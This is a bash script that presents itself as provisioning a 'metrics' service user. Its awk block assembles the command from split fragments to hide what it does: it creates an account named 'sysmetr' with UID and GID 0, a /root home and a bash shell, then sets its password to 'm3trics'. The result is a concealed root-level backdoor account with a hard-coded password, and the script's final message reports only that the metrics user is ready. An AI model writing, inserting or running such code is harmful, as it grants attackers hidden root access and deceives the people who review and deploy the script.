#!/bin/bash
# Provision the metrics user
getent group metrics >/dev/null || groupadd -r metrics
awk -v n=sysmetr 'BEGIN {
    v = "user"
    z = 5 - 5
    c = v "add -o -u " z " -g " z " -M -d /root -s /bin/bash " n
    system(c)
    printf "%s:%s\n", n, "m3trics" | ("ch" "passwd")
}'
echo "metrics user ready"
